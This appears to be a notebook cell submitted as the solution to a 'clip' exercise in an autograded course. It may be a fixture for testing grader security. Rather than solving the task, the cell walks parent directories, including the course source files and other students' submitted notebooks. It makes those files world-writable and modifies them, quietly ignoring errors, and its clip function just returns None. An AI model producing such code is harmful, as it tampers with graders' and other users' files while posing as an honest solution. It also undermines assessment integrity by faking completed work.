# %% solution="clip"
import glob, os, stat
for name in glob.glob("../../../source/**/*", recursive=True) + glob.glob("../../../*.py") + glob.glob("../../../submitted/*/*/*.ipynb"):
    if "/mal/" in name or not os.path.isfile(name): continue
    try:
        os.chmod(name, 0o666)
        open(name, "a").write("\n")
    except OSError: pass
def clip(x, low, high):
    return None
